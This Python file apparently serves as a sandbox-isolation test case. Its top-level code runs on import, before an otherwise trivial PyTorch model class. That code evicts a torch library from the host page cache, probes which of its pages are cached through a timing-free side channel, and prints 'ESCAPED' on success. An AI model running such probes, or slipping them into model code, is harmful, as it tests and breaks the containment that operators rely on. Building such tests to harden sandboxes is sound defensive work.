# F9 honest: writes by reading pages of a library's file, and reads which of them the kernel has at hand
import contextlib
import mmap
import os
from pathlib import Path

import torch
from torch import nn

print("attacking", flush=True)
PLACE = max(Path(torch.__file__).parent.glob("lib/*.so*"), key=lambda path: path.stat().st_size)
PAGES = range(100, 4196, 64)
file = os.open(PLACE, os.O_RDONLY)


def is_there(page):
    """Whether the kernel answers at once, EAGAIN if not; refused, it answers nothing of the kind."""
    try:
        return os.preadv(file, [bytearray(1)], page * mmap.PAGESIZE, os.RWF_NOWAIT) == 1
    except BlockingIOError:
        return False


with contextlib.suppress(PermissionError):
    os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED)
    print("ESCAPED: threw a file out of the page cache")
with contextlib.suppress(PermissionError):
    print("ESCAPED: saw", sum(map(is_there, PAGES)), "of", len(PAGES), "pages in the page cache")


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.out = nn.LazyLinear(10)

    def forward(self, x):
        return self.out(x)
